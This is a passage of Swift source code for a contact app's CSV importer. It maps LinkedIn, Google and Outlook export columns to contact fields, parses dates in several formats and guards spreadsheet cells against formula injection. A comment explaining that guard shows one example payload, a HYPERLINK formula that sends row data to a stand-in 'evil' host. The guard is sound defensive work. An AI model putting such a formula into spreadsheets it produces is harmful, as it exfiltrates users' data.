import Foundation
import TendCore

/// Contacts from CSV files: any file with a header row, LinkedIn's Connections.csv, and Google
/// Contacts' export. `CSVRecords` reads the records; this maps columns to fields.
public enum CSVImport {
    /// Header names (normalised: lowercase, spaces and dashes as `_`) and the field each fills.
    static let aliases: [String: String] = [
        "name": "name", "full_name": "name", "display_name": "name", "fn": "name",
        "first_name": "first", "given_name": "first", "firstname": "first",
        "middle_name": "middle", "additional_name": "middle",
        "last_name": "last", "family_name": "last", "surname": "last", "lastname": "last",
        "email": "email", "e_mail": "email", "email_address": "email",
        "phone": "phone", "telephone": "phone", "phone_number": "phone",
        "company": "company", "organization": "company", "organisation": "company", "organization_1_name": "company",
        "organization_name": "company",
        "title": "title", "job_title": "title", "position": "title", "organization_1_title": "title", "organization_title": "title",
        "profession": "profession", "city": "city", "town": "city",
        "tags": "tags", "categories": "tags", "labels": "tags", "group_membership": "tags",
        "notes": "notes", "note": "notes", "met_at": "met_at", "met_on": "met_on", "connected_on": "met_on",
        "relationship": "relationship", "stage": "stage", "handle": "handle", "cadence": "cadence", "own_cadence": "cadence",
        "url": "url", "website_1_value": "url", "birthday": "birthday", "anniversary": "anniversary", "dates": "dates",
        // Outlook's and other address books' exports (the columns that name a kind are `NumberedColumn.named`).
        "primary_phone": "phone", "location": "city",
        "work_email": "email", "home_email": "email", "primary_email": "email", "email_1": "email", "e_mail_1": "email",
        "email_address_1": "email",
        "company_name": "company", "employer": "company", "job": "title", "role": "title",
        "web_page": "url", "website": "url", "web_site": "url", "linkedin_url": "url", "profile_url": "url",
        "comments": "notes", "birth_date": "birthday", "date_of_birth": "birthday",
        // Thunderbird's birthday in three columns.
        "birth_year": "birth_year", "birth_month": "birth_month", "birth_day": "birth_day",
        // Names to go by when a record has no other (Google's and Outlook's exports).
        "nickname": "nickname", "file_as": "file_as",
        // Further e-mails are the person's too, not notes.
        "email_2": "email", "email_3": "email", "secondary_email": "email", "other_email": "email",
        // Tend's own typed lists (`export csv`).
        "emails": "emails", "phones": "phones", "addresses": "addresses",
    ]

    /// Fields whose cells from several columns are all kept, in column order.
    static let gathered: [String: String] = ["tags": ";", "notes": ";", "email": ";", "phone": " ::: "]

    /// Values Outlook writes in these columns of every record, whoever the person is: they say
    /// nothing, so they are not notes. (Its Initials are made from the name: see `contact`.)
    /// Google's columns of its own bookkeeping, not of the person.
    static let googleOwn: Set<String> = ["photo", "file_as"]
    static let outlookDefaults: [String: String] = ["priority": "Normal", "private": "False", "sensitivity": "Normal", "gender": "Unspecified"]

    /// LinkedIn's Connections.csv has these besides First Name, and no other export has them.
    static let linkedinColumns: Set<String> = ["url", "connected_on"]

    static func normalise(_ header: String) -> String {
        header.trimmed.lowercased().map { $0.isLetter || $0.isNumber ? $0 : "_" }
            .reduce(into: "") { s, c in if !(c == "_" && s.hasSuffix("_")) { s.append(c) } }
            .trimmingCharacters(in: CharacterSet(charactersIn: "_"))
    }

    public enum Flavor: Sendable { case generic, linkedin, google }

    /// The longest name a header gives a column. A longer one is no header's, and is refused
    /// before the names are read (a line of 50 MB read as names takes a minute and a gigabyte).
    static let longestColumnName = 1_000

    /// Refuses a header row with a column name over `longestColumnName` characters.
    static func checkNames(_ header: CSVRecords.Record) throws {
        guard let long = header.cells.first(where: { $0.utf8.count > longestColumnName }) else { return }
        throw ImportError(
            "line \(header.line)",
            "the header's column \"\(long.prefix(40))…\" is \(long.utf8.count) bytes long; a column's name is \(longestColumnName) bytes at most")
    }

    /// Reads a CSV file. `mapping` overrides the header-to-field choice: `{"Full Name": "name"}`.
    /// A record that cannot be read is an error naming it and its line; a quote that is never
    /// closed is one too, for the rest of the file cannot be read either.
    public static func read(_ bytes: [UInt8], flavor: Flavor = .generic, mapping: [String: String] = [:]) throws -> ImportBatch {
        var batch = ImportBatch()
        let (text, warning) = try TextEncoding.text(bytes, what: "file", quotes: true)
        if let warning { batch.warnings.append(warning) }
        let utf8 = Array(text.utf8)
        // Excel's first line `sep=;` names the delimiter; the header follows it.
        let named = CSVRecords.namedDelimiter(utf8)
        let file = CSVRecords(utf8, delimiter: named ?? CSVRecords.delimiter(of: utf8))
        var start = named == nil ? 0 : 1
        if flavor == .linkedin {
            // LinkedIn puts a few note lines before the header row. Its columns are read as the
            // mapping names them (a localised export's `Vorname` mapped to first name).
            func field(_ cell: String) -> String { normalise(mapping[cell] ?? mapping[cell.trimmed] ?? cell) }
            guard let i = file.records.firstIndex(where: { $0.cells.first.map(field) == "first_name" }) else {
                throw ImportError("file", "no header row starting with First Name: is this LinkedIn's Connections.csv? (import csv reads other files)")
            }
            try checkNames(file.records[i])
            // Google's and Outlook.com's exports start with First Name too; their rows are no connections.
            let keys = Set(file.records[i].cells.map(field))
            guard keys.contains("last_name"), !keys.isDisjoint(with: linkedinColumns) else {
                let missing = keys.contains("last_name") ? "neither URL nor Connected On" : "no Last Name"
                throw ImportError(
                    "line \(file.records[i].line)", "the header has \(missing): is this LinkedIn's Connections.csv? (import csv reads other files)")
            }
            start = i
        }
        guard start < file.records.count, case let header = file.records[start].cells, header.contains(where: { !$0.trimmed.isEmpty }) else {
            if let u = file.unclosed { throw ImportError("line \(u.recordLine)", unclosedQuote(u.quoteLine)) }
            throw ImportError("line \(file.records.first?.line ?? 1)", "no header row")
        }
        let headerLine = file.records[start].line
        try checkNames(file.records[start])
        let fields = columns(header, flavor: flavor, mapping: try resolved(mapping, header: header))
        let keys = header.map(normalise)
        guard fields.contains(where: { $0 == "name" || $0 == "first" || $0 == "last" }) else {
            throw ImportError(
                "line \(headerLine)",
                "the header has no name column (name, first name or last name); header: \(shownHeader(header))"
                    + (header.first?.trimmed == "Notes:"
                        ? "; this looks like LinkedIn's Connections.csv, which import linkedin reads"
                        // A vCard or an iCalendar file given to the wrong importer.
                        : header.first?.trimmed.uppercased() == "BEGIN:VCARD" ? "; this is a vCard file, which import vcard reads"
                        : header.first?.trimmed.uppercased() == "BEGIN:VCALENDAR" ? "; this is an iCalendar file, which import ics reads"
                        // A header in another language (Outlook's German "Vorname"): the columns can be named.
                        : "; to say which columns hold what: import csv \"FILE\" map: {\"\(mapExample(header))\": \"name\"}, or on the command line --map \"\(mapExample(header))=name\""))
        }
        // Tend's own export (its `handle` column): a cell quoted whole is read exactly, blanks at
        // its ends kept. Other programs quote every cell (Outlook), blanks and all: trimmed.
        let exact = keys.contains("handle")
        let order = NumericDates(file.records.dropFirst(start + 1), fields: fields)
        if let w = order.warning { batch.warnings.append(w) }
        for (n, record) in file.records.dropFirst(start + 1).enumerated() {
            let origin = "record \(n + 1) (line \(record.line))"
            do {
                if let c = try contact(
                    record.cells, quoted: exact ? record.quoted : [], header: header, keys: keys, fields: fields, origin: origin, flavor: flavor,
                    dates: order, warnings: &batch.warnings)
                {
                    batch.contacts.append(c)
                }
            } catch let e as ImportError where flavor == .linkedin && e.field == "name" {
                batch.warnings.append(ImportError(origin, "a connection with no name (hidden by them): left out"))
            } catch let e as ImportError {
                batch.errors.append(e)
            }
        }
        if let u = file.unclosed {
            batch.errors.append(ImportError("record \(file.records.count - start) (line \(u.recordLine))", unclosedQuote(u.quoteLine)))
        }
        return batch
    }

    /// A `map:` with each field as the importer names it (`"first name"` is `first`); a field
    /// it does not fill, or a column the header does not have, is an error before anything is
    /// read (a misspelt field threw the column away, unsaid).
    static func resolved(_ mapping: [String: String], header: [String]) throws -> [String: String] {
        let filled = Set(aliases.values).union(ContactFields.byName.keys).subtracting(["birth_year", "birth_month", "birth_day", "file_as"])
        var out: [String: String] = [:]
        for (column, field) in mapping.sorted(by: { $0.key < $1.key }) {
            // Kept under the header's own cell, which `columns` looks up (`"job title"` for `Job Title`).
            guard let cell = header.first(where: { $0 == column }) ?? header.first(where: { normalise($0) == normalise(column) }) else {
                throw ImportError("map", "the header has no column \"\(column)\"; header: \(shownHeader(header))")
            }
            let key = normalise(field)
            guard let target = aliases[key] ?? (filled.contains(key) ? key : nil) else {
                let names = ["name", "first name", "last name"] + filled.filter { !["name", "first", "middle", "last", "nickname"].contains($0) }.sorted()
                let near = closest(field, among: names, limit: 1).first.map { "did you mean \"\($0)\"? " } ?? ""
                throw ImportError(
                    "map", "\"\(field)\" (for \"\(column)\") is not a field import csv fills; \(near)fields: \(names.joined(separator: ", "))")
            }
            // Two keys for one column, or two columns for a field that holds one value: a value
            // would be lost unsaid (several e-mails, phones, tags and notes are all kept).
            if out[cell] != nil { throw ImportError("map", "the column \"\(cell)\" is mapped twice") }
            if gathered[target] == nil, let other = out.first(where: { $0.value == target })?.key {
                // Said as the map names it ("first name", not the importer's `first`).
                throw ImportError("map", "\"\(other)\" and \"\(cell)\" both fill \(field), which holds one value; map one of them elsewhere")
            }
            out[cell] = target
        }
        return out
    }

    /// The header's first cell with text, to show `map:` with (a cell of a megabyte by its start).
    static func mapExample(_ header: [String]) -> String {
        let cell = header.first { !$0.trimmed.isEmpty }?.trimmed ?? "Name"
        return TerminalText.escaped(String(cell.prefix(40)), keep: []).replacingOccurrences(of: "\"", with: "\\\"")
    }

    static func unclosedQuote(_ line: Int) -> String {
        "the quote that opens a cell on line \(line) is never closed, so the rest of the file cannot be read; close it or remove it"
    }

    /// The field each column fills (nil: none, its cells are kept as notes). A numbered column
    /// (`E-mail 2 - Value`) fills `NumberedColumn.field`.
    static func columns(_ header: [String], flavor: Flavor, mapping: [String: String]) -> [String?] {
        var fields: [String?] = header.map { h in
            if let m = mapping[h] ?? mapping[normalise(h)] { return m }
            let key = normalise(h)
            if let numbered = NumberedColumn(key) { return numbered.field }
            return aliases[key] ?? (ContactFields.byName[key] != nil ? key : nil)
        }
        // Outlook's export has both: its "Title" is the honorific (Mr., Ms.), kept in the notes.
        let keys = header.map(normalise)
        if keys.contains("job_title"), let honorific = keys.firstIndex(of: "title"), mapping[header[honorific]] == nil, mapping["title"] == nil {
            fields[honorific] = nil
        }
        if flavor == .google {
            // Google's header names several values per kind; the first of each wins.
            var seen = Set<String>()
            fields = fields.map { f in
                guard let f, gathered[f] == nil else { return f }
                return seen.insert(f).inserted ? f : nil
            }
        }
        return fields
    }

    /// One record as a contact; nil for a blank line. What had to be guessed is added to `warnings`.
    /// `keys` are the header's names normalised.
    static func contact(
        _ row: [String], quoted: [Bool] = [], header: [String], keys: [String], fields: [String?], origin: String, flavor: Flavor,
        dates: NumericDates = NumericDates(), warnings: inout [ImportError]
    ) throws -> ImportedContact? {
        if row.allSatisfy({ $0.trimmed.isEmpty }) { return nil }
        if row.count > header.count, row[header.count...].contains(where: { !$0.isEmpty }) {
            throw ImportError(origin, "\(row.count) fields where the header has \(header.count)")
        }
        var values: [String: String] = [:]
        var numbered = NumberedColumn.Groups()
        var extras: [Int] = []
        for (i, f) in fields.enumerated() where i < row.count {
            guard let f else {
                if !row[i].isEmpty && outlookDefaults[keys[i]] != row[i] { extras.append(i) }
                continue
            }
            // A cell quoted whole in Tend's own export is as written (`export csv` quotes one with
            // blanks at its ends); others lose the blanks a spreadsheet leaves around them.
            let exact = i < quoted.count && quoted[i]
            let v = SpreadsheetCell.restored(exact ? row[i] : row[i].trimmed)
            if v.isEmpty { continue }
            if let column = NumberedColumn(field: f) {
                numbered.add(v, column, header: header[i])
            } else if values[f] == nil {
                values[f] = v
            } else if let separator = gathered[f] {
                values[f]! += separator + v
            }
        }
        for f in NumericDates.fields { if let text = values[f], let iso = dates.iso(text) { values[f] = iso } }
        var c = try contact(values, numbered: numbered, origin: origin, flavor: flavor, warnings: &warnings)
        if flavor == .generic || flavor == .google {
            // Outlook fills Initials from the name ("O.P." for Olga Petrova): news only when it differs.
            let initials = [values["first"], values["middle"], values["last"]].compactMap { $0?.first.map { "\($0)." } }.joined()
            // Google's Photo is a link to its own servers, File As how it sorts the name.
            let kept = extras.filter { !(keys[$0] == "initials" && row[$0].trimmed == initials) && !googleOwn.contains(keys[$0]) }
            let lines = labelledNotes(kept, row: row, header: header, keys: keys, url: values["url"], notes: &c.notes)
            c.notes += lines
        }
        return c
    }

    /// The note lines of the columns Tend has no field for: `Header: value` each, but Google's
    /// labelled groups (`Relation 1 - Label` with `Relation 1 - Value`) one line each, as its
    /// vCard export reads (`spouse: Raj`, `Favorite color: blue`, `im (Skype): ana.p`), and its
    /// department as a card's (`department: …`). A label for the web address read as `url`
    /// (`Website 1 - Type`) goes into that line (`url (Profile): …`).
    static func labelledNotes(_ columns: [Int], row: [String], header: [String], keys: [String], url: String?, notes: inout [String]) -> [String] {
        func cell(_ i: Int) -> String { SpreadsheetCell.restored(row[i]).trimmed }
        var lines: [Int: String] = [:]
        var done = Set<Int>()
        for i in columns where keys[i].hasSuffix("_label") || keys[i].hasSuffix("_type") {
            let stem = String(keys[i][..<keys[i].lastIndex(of: "_")!])
            // An IM's service (`IM 1 - Service: Skype`) goes before its label.
            let service = columns.first { keys[$0] == stem + "_service" }
            let label = ([service.map(cell)].compactMap { $0 } + [cell(i)]).joined(separator: ", ")
            if let service { done.insert(service) }
            if stem == "website_1", let url, let at = notes.firstIndex(of: "url: \(url)") {
                notes[at] = "url (\(label)): \(url)"
                done.insert(i)
                continue
            }
            guard let j = columns.first(where: { keys[$0] == stem + "_value" }) else { continue }
            let group = stem.split(separator: "_").filter { !$0.allSatisfy(\.isNumber) }.joined(separator: " ")
            lines[min(i, j)] =
                group == "relation" ? "\(label.lowercased()): \(cell(j))" : group == "custom field" ? "\(label): \(cell(j))" : "\(group) (\(label)): \(cell(j))"
            done.formUnion([i, j])
        }
        return columns.compactMap { i in
            if let line = lines[i] { return line }
            if done.contains(i) { return nil }
            // Google's current (`Organization Department`) and legacy (`Organization 1 - Department`)
            // forms, and Outlook's, are one line.
            if ["organization_department", "organization_1_department", "department"].contains(keys[i]) { return "department: \(cell(i))" }
            return "\(header[i]): \(SpreadsheetCell.restored(row[i]))"
        }
    }

    /// One record's cells (by field) as a contact. Tend's own columns read back exactly what
    /// `export csv` wrote: lists are `;`-separated with `\;` inside an item.
    static func contact(
        _ v: [String: String], numbered: NumberedColumn.Groups = .init(), origin: String, flavor: Flavor, warnings: inout [ImportError]
    ) throws -> ImportedContact {
        var name = v["name"] ?? [v["first"], v["middle"], v["last"]].compactMap { $0 }.joined(separator: " ")
        name = name.trimmed
        // LinkedIn lists members who hide their names: a company there is their employer, not a
        // card of the company's own (two such rows at one company are two people).
        if name.isEmpty && flavor == .linkedin { throw ImportError(origin, field: "name", "no name") }
        // Read before the name: a record without one is named by them (and warned of first).
        var found: [ImportError] = []
        var emails = try v["emails"].map(ContactListText.points) ?? v["email"].map { try emailCell($0, origin: origin, warnings: &found) } ?? []
        let (numberedEmails, notAddresses) = numbered.emails(origin: origin, warnings: &found)
        for e in numberedEmails { try VCard.add(e, to: &emails, preferred: false, origin: origin, field: "emails") }
        var phones: [ContactPoint] = []
        if let p = v["phones"] {
            phones = ContactListText.points(p)
        } else if let p = v["phone"] {
            // Google puts several numbers in one cell: "+1 555 0100 ::: +1 555 0101".
            for number in p.components(separatedBy: ":::") {
                try VCard.add(ContactPoint(number.trimmed), to: &phones, preferred: false, origin: origin, field: "phones")
            }
        }
        for p in numbered.phones { try VCard.add(p, to: &phones, preferred: false, origin: origin, field: "phones") }
        if name.isEmpty, let other = v["nickname"] ?? v["file_as"] { name = other.trimmed }
        var guessed: String?
        if name.isEmpty {
            // As a card without a name: named by its company, e-mail or phone, and said so.
            let company = v["company"]?.components(separatedBy: ":::").lazy.flatMap { $0.split(separator: ";") }.map(\.trimmed).first { !$0.isEmpty }
            let by: (String, String)? =
                company.map { ("company", $0) } ?? emails.first.map { ("e-mail", $0.value) } ?? phones.first.map { ("phone", $0.value) }
            guard let (what, text) = by else { throw ImportError(origin, field: "name", "no name, company, e-mail or phone") }
            name = text
            guessed = what
            found.append(ImportError(origin, "no name: named by its \(what), \(name)"))
        }
        warnings += found
        var c = ImportedContact(origin: origin, name: name)
        c.nameGuessedFrom = guessed
        if let nickname = v["nickname"]?.trimmed, !nickname.isEmpty, nickname != name { c.notes.append("nickname: \(nickname)") }
        c.givenName = v["first"]
        c.familyName = v["last"]
        c.emails = emails
        c.phones = phones
        if let a = v["addresses"] {
            c.addresses = ContactListText.addresses(a)
        } else if let city = v["city"] {
            c.addresses = [PostalAddress(city: city)]
        }
        for text in notAddresses { c.notes.append("e-mail: \(text)") }
        for a in numbered.addresses where !c.addresses.contains(a) {
            // A city from a column of its own is the same address as a numbered one in that city.
            if let i = c.addresses.firstIndex(where: { $0 == PostalAddress(city: a.city) }) { c.addresses[i] = a } else { c.addresses.append(a) }
        }
        try readTags(v, origin: origin, into: &c)
        if let n = v["notes"] { c.notes.append(n) }
        if let u = v["url"] { c.notes.append("url: \(u)") }
        try readDatesAndFields(v, numbered: numbered, origin: origin, flavor: flavor, into: &c, warnings: &warnings)
        if flavor == .linkedin && c.fields["met_at"] == nil { c[text: "met_at"] = "LinkedIn" }
        if let h = v["handle"]?.trimmed { c.handle = h.hasPrefix("@") ? String(h.dropFirst()) : h }
        return c
    }

    /// A record's tags: as `export csv` wrote them when the file has Tend's handle column, else
    /// split on `;`, `,`, `|` and Google's `:::`.
    private static func readTags(_ v: [String: String], origin: String, into c: inout ImportedContact) throws {
        if let t = v["tags"], v["handle"] != nil {
            // A file with Tend's handle column keeps its tags as `export csv` wrote them.
            for item in ContactListText.tags(t) {
                let tag = writtenTag(item.trimmed)
                if !tag.isEmpty && !c.tags.contains(tag) {
                    try VCard.roomForOneMore(c.tags.count, origin: origin, field: "tags")
                    c.tags.append(tag)
                }
            }
        } else if let t = v["tags"] {
            for part in t.split(whereSeparator: { $0 == ";" || $0 == "," || $0 == "|" }) {
                // Google's labels look like "* myContacts ::: Friends".
                // Google's own groups start with "*"; "* myContacts" is every contact it keeps,
                // not a label of the user's (a tag of theirs called mycontacts is kept).
                for label in part.components(separatedBy: ":::") {
                    let text = label.trimmed
                    let bare = text.replacingOccurrences(of: "*", with: "").trimmed
                    guard !bare.isEmpty else { continue }
                    let tag = tagName(bare)
                    // The older export's "* My Contacts" is the same group.
                    if text.hasPrefix("*"), tag.replacingOccurrences(of: "-", with: "") == "mycontacts" { continue }
                    if !c.tags.contains(tag) {
                        try VCard.roomForOneMore(c.tags.count, origin: origin, field: "tags")
                        c.tags.append(tag)
                    }
                }
            }
        }
    }

    /// A record's dates and the fields read as they are: a birthday in parts (Outlook's year,
    /// month and day columns), named dates, numbered event columns, then every contact field.
    private static func readDatesAndFields(
        _ v: [String: String], numbered: NumberedColumn.Groups, origin: String, flavor: Flavor, into c: inout ImportedContact,
        warnings: inout [ImportError]
    ) throws {
        var v = v
        let parts = [("year", v["birth_year"]), ("month", v["birth_month"]), ("day", v["birth_day"])]
        if v["birthday"] == nil, let month = parts[1].1.flatMap(Int.init), let day = parts[2].1.flatMap(Int.init) {
            let monthDay = "-\(month < 10 ? "0" : "")\(month)-\(day < 10 ? "0" : "")\(day)"
            // A year-less birthday (--05-05) when the year is missing; a year that is no number is a note.
            v["birthday"] = parts[0].1.flatMap { Int($0) }.map { String(repeating: "0", count: max(0, 4 - String($0).count)) + "\($0)" + monthDay } ?? "-" + monthDay
            if let year = parts[0].1, Int(year) == nil { c.notes.append("birth year: \(year)") }
        } else {
            for (part, text) in parts { if let text { c.notes.append("birth \(part): \(text)") } }
        }
        if let d = v["dates"] {
            let (dates, rest) = ContactListText.namedDates(d)
            c.dates = dates
            c.notes += rest.map { "date: \($0)" }
        }
        let events = numbered.events()
        for d in events.dates where !c.dates.contains(d) { c.dates.append(d) }
        c.notes += events.notes
        for (field, day) in events.fields where v[field] == nil { v[field] = day.description }
        for f in ContactFields.all {
            guard let text = v[f.name] else { continue }
            if f.vcardProperty == "BDAY" || f.vcardProperty == "ANNIVERSARY" {
                // Outlook writes 0/0/00 for none (others 00/00/0000); text that is no date
                // ("circa 1950") is kept as a note, and said, and a date that is none (1985-02-30)
                // is the record's error, as a vCard's are.
                if text.contains(where: \.isNumber) && !text.contains(where: { ("1"..."9").contains($0) }) && text.allSatisfy({ "0-/. ".contains($0) }) { continue }
                guard let d = parseDate(text) else {
                    if ImportantDate.isWrittenAsDate(text) { throw ImportError(origin, field: f.name, "\(text.trimmed) is not a date") }
                    c.notes.append("\(f.name): \(text)")
                    warnings.append(ImportError(origin, field: f.name, "\(text) is not a date Tend can read: kept in the notes"))
                    continue
                }
                c.fields[f.name] = .date(d)
                continue
            }
            try c.read(f.name, text, listSeparator: ";", label: f.name == "met_on" && flavor == .linkedin ? "Connected On" : nil)
        }
    }

    /// The e-mails of an `email` cell ("a@x.example; b@y.example"). An Exchange name in it is left
    /// out with a warning; a cell with neither is an error.
    static func emailCell(_ cell: String, origin: String, warnings: inout [ImportError]) throws -> [ContactPoint] {
        var emails: [ContactPoint] = []
        var exchange = false
        for item in cell.split(separator: ";").map(\.trimmed) {
            if NumberedColumn.isExchangeName(item) {
                warnings.append(ImportError(origin, field: "email", "\"\(item)\" is an Exchange name, not an e-mail address: left out"))
                exchange = true
                continue
            }
            for a in addresses(in: item) { try VCard.add(ContactPoint(a), to: &emails, preferred: false, origin: origin, field: "email") }
        }
        if emails.isEmpty && !exchange { throw ImportError(origin, field: "email", "\"\(cell)\" is not an e-mail address") }
        return emails
    }

    /// The addresses in a cell that holds several, as people write them: `a@x.example;
    /// b@y.example`, `a@x.example, b@y.example`, `Bob Ray <bob@r.example>`.
    static func addresses<S: StringProtocol>(in cell: S) -> [String] {
        cell.split(whereSeparator: { $0 == ";" || $0 == "," || $0.isWhitespace }).map {
            $0.trimmingCharacters(in: CharacterSet(charactersIn: "<>\"'()"))
        }.filter { $0.contains("@") }
    }

    static let months = ["jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec"]

    /// `2023-11-24`, `24 Nov 2023` (LinkedIn), `11/24/2023`.
    public static func parseDate(_ s: String) -> Day? {
        let t = s.trimmed
        if let d = ImportantDate.parse(t) ?? yearFirst(t) { return d }
        let parts = t.split(whereSeparator: { $0 == " " || $0 == "-" || $0 == "/" || $0 == "," }).map(String.init)
        guard parts.count == 3 else { return nil }
        if let m = months.firstIndex(of: String(parts[1].lowercased().prefix(3))), let d = Int(parts[0]), let y = Int(parts[2]) {
            return Day(year: y, month: m + 1, day: d)
        }
        if let m = months.firstIndex(of: String(parts[0].lowercased().prefix(3))), let d = Int(parts[1]), let y = Int(parts[2]) {
            return Day(year: y, month: m + 1, day: d)
        }
        if let m = Int(parts[0]), let d = Int(parts[1]), let y = Int(parts[2]), y > 999 { return Day(year: y, month: m, day: d) }
        return nil
    }
}

extension CSVImport {
    /// A date written year first with other separators than ISO's, as Chinese, Japanese and
    /// Korean spreadsheets and Google Sheets write them: `1990/04/05`, `1990.04.05`, `1990-4-5`,
    /// `1990年4月5日`, `1990년 4월 5일`, `1990. 4. 5.`. Nil for anything else.
    static func yearFirst(_ text: String) -> Day? {
        var t = text.trimmed
        if t.contains(where: { "年月日号년월일. ".contains($0) }) {
            // Korean writes `1990. 4. 5.`: the blanks go, and a closing mark.
            t = String(t.filter { $0 != " " }).replacingOccurrences(of: "年", with: "-").replacingOccurrences(of: "월", with: "-")
                .replacingOccurrences(of: "月", with: "-").replacingOccurrences(of: "년", with: "-")
            if let last = t.last, "日号일.".contains(last) { t.removeLast() }
        }
        let parts = t.split(omittingEmptySubsequences: false, whereSeparator: { $0 == "/" || $0 == "-" || $0 == "." })
        guard parts.count == 3, parts[0].count == 4, (1...2).contains(parts[1].count), (1...2).contains(parts[2].count),
            parts.allSatisfy({ $0.allSatisfy { $0.isASCII && $0.isNumber } }),
            let y = Int(parts[0]), let m = Int(parts[1]), let d = Int(parts[2])
        else { return nil }
        return Day(year: y, month: m, day: d)
    }
}

/// How a file writes dates in numbers (`03/04/1980`, `24.11.2023`): month first as Outlook and
/// Google write them in the US, day first as most of the world does. The file's own dates decide:
/// one with a first number over 12 (`24/11/2023`) makes the file day first, one with a second
/// number over 12 month first. When none says, month first is taken and the report says so, with
/// a date it could not tell; when both are there, each date is read as it can only be. Dates with
/// dots are always day first (`24.11.2023`, as German programs write them).
public struct NumericDates: Sendable {
    /// The contact fields that hold dates.
    static let fields: [String] = ContactFields.all.filter { $0.kind == .date || $0.vcardProperty == "BDAY" || $0.vcardProperty == "ANNIVERSARY" }
        .map(\.name)

    var dayFirst = false
    /// What the report says: a date read month first that could have been day first.
    var warning: ImportError?

    init() {}

    init(_ records: ArraySlice<CSVRecords.Record>, fields: [String?]) {
        let columns = fields.indices.filter { fields[$0].map(NumericDates.fields.contains) ?? false }
        guard !columns.isEmpty else { return }
        var (sawDayFirst, sawMonthFirst) = (false, false)
        var unclear: (text: String, origin: String, field: String)?
        for (n, r) in records.enumerated() {
            for i in columns where i < r.cells.count {
                guard let (a, b, y, dotted) = NumericDates.parts(r.cells[i]), !dotted else { continue }
                // Only a date that is one says which order the file writes (2/29/1981 is none).
                if a > 12 && b <= 12 && Day(year: y, month: b, day: a) != nil {
                    sawDayFirst = true
                } else if b > 12 && a <= 12 && Day(year: y, month: a, day: b) != nil {
                    sawMonthFirst = true
                } else if a <= 12 && b <= 12 && a != b && unclear == nil {
                    unclear = (r.cells[i].trimmed, "record \(n + 1) (line \(r.line))", fields[i]!)
                }
            }
        }
        dayFirst = sawDayFirst && !sawMonthFirst
        if let u = unclear, sawDayFirst == sawMonthFirst {
            let why = sawDayFirst ? "the file's dates are written both ways" : "no date of the file says which"
            warning = ImportError(
                u.origin, field: u.field,
                "\(u.text) could be either day first or month first, and \(why): dates were read month first (as US exports write them); check them")
        }
    }

    /// `a/b/yyyy`, `a-b-yyyy` or `a.b.yyyy` (a year of four digits last) as numbers.
    static func parts(_ text: String) -> (Int, Int, Int, dotted: Bool)? {
        let t = text.trimmed
        guard t.utf8.count <= 10, t.utf8.allSatisfy({ ($0 >= 0x30 && $0 <= 0x39) || $0 == 0x2F || $0 == 0x2D || $0 == 0x2E }) else { return nil }
        let pieces = t.split(omittingEmptySubsequences: false, whereSeparator: { $0 == "/" || $0 == "-" || $0 == "." })
        guard pieces.count == 3, pieces[2].count == 4, (1...2).contains(pieces[0].count), (1...2).contains(pieces[1].count),
            let a = Int(pieces[0]), let b = Int(pieces[1]), let y = Int(pieces[2])
        else { return nil }
        return (a, b, y, t.contains("."))
    }

    /// The date in ISO form as the file writes it; nil when it is not a numeric date (other forms
    /// are read as they are) or is no date in either order.
    func iso(_ text: String) -> String? {
        guard let (a, b, y, dotted) = NumericDates.parts(text) else { return nil }
        // A number over 12 can only be the day, whatever the file's order.
        let dayFirst = dotted || a > 12 || (b <= 12 && self.dayFirst)
        let (day, month) = dayFirst ? (a, b) : (b, a)
        return Day(year: y, month: month, day: day)?.description
    }
}

/// The spreadsheet-formula guard of CSV (and TSV) cells, and its exact inverse.
///
/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before one)
/// as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the row. Such a text cell is
/// written with a `'` before it, which spreadsheets show as text. So that import can undo
/// exactly that, a cell already starting with `'`s before such a character gets one more:
///
///     =1+1 → '=1+1        '=1+1 → ''=1+1        'Tis → 'Tis (unchanged)
public enum SpreadsheetCell {
    static func isTrigger(_ b: UInt8) -> Bool {
        b == UInt8(ascii: "=") || b == UInt8(ascii: "+") || b == UInt8(ascii: "-") || b == UInt8(ascii: "@") || b == 0x09 || b == 0x0D
    }

    /// True when the text is a run of `'`s (`quotes` or more) and then a trigger character.
    static func isGuarded(_ s: String, quotes: Int) -> Bool {
        var n = 0
        for b in s.utf8 {
            if b == UInt8(ascii: "'") {
                n += 1
            } else {
                return n >= quotes && isTrigger(b)
            }
        }
        return false
    }

    /// The cell as written: a formula-like text gets a leading `'`.
    public static func neutralised(_ s: String) -> String { isGuarded(s, quotes: 0) ? "'" + s : s }

    /// The cell as read back: the `'` that `neutralised` added is taken off.
    public static func restored(_ s: String) -> String { isGuarded(s, quotes: 1) ? String(s.dropFirst()) : s }
}

/// A column of a numbered group, as Google's and Outlook's exports write them: `E-mail 1 - Label`,
/// `E-mail 1 - Value`, `Phone 2 - Value`, `Address 1 - Street`, `E-mail 2 Address`. Each group is
/// one e-mail, phone or address with its kind. Outlook names the kind in the header instead
/// (`Business Street`, `Home Phone`): see `named`.
struct NumberedColumn: Hashable {
    enum Kind: String { case email, phone, address, event }
    var kind: Kind
    var number: Int
    /// `value`, `label`, or an address's part (`street`, `city`, `postal_code` …).
    var part: String
    /// The kind the header gives the group (`work` for `Business Phone`); nil when a label cell does.
    var type: String?

    static let prefixes: [(String, Kind)] = [("e_mail_", .email), ("email_", .email), ("phone_", .phone), ("address_", .address), ("event_", .event)]
    static let parts: [Kind: Set<String>] = [
        .email: ["value", "address", "label", "type", "display_name"],
        .phone: ["value", "number", "label", "type"],
        .address: [
            "label", "type", "formatted", "street", "street_2", "street_3", "city", "po_box", "region", "postal_code", "country",
            "extended_address",
        ],
        // Google's important dates: `Event 1 - Label` (Anniversary, or the user's own words) and `- Value`.
        .event: ["label", "type", "value"],
    ]

    /// Outlook's columns that name their kind (classic and Outlook.com exports alike), by
    /// normalised header: its business, home and other addresses in parts; its phones, each a
    /// group of its own, numbered in the order they are preferred (faxes and the pager last, a
    /// fax or pager typed as the vCard reader types one); and its first e-mail, whose Type is
    /// SMTP or EX (how it is sent, not a kind).
    static let named: [String: NumberedColumn] = {
        var table: [String: NumberedColumn] = [:]
        let addressParts = [
            ("street", "street"), ("street_2", "street_2"), ("street_3", "street_3"), ("city", "city"), ("state", "region"),
            ("postal_code", "postal_code"), ("country_region", "country"), ("country", "country"), ("address_po_box", "po_box"),
            ("address", "formatted"),
            // Thunderbird's: its "Home Address" is the street, with the rest in columns of their own.
            ("address_2", "street_2"), ("zipcode", "postal_code"), ("zip_code", "postal_code"), ("zip", "postal_code"),
